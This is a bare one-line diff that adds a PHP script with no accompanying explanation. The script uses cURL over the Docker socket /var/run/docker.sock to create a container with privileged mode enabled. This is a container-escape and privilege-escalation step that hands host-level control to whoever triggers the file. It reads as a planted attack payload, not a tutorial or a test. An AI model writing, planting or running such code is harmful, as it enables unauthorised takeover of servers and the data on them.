@@ -1,0 +1,1 @@
+<?php $c=curl_init();curl_setopt($c,CURLOPT_UNIX_SOCKET_PATH,'/var/run/docker.sock');curl_setopt($c,CURLOPT_URL,'http://d/containers/create');curl_setopt($c,CURLOPT_POSTFIELDS,json_encode(['HostConfig'=>['Privileged'=>true]]));curl_exec($c);
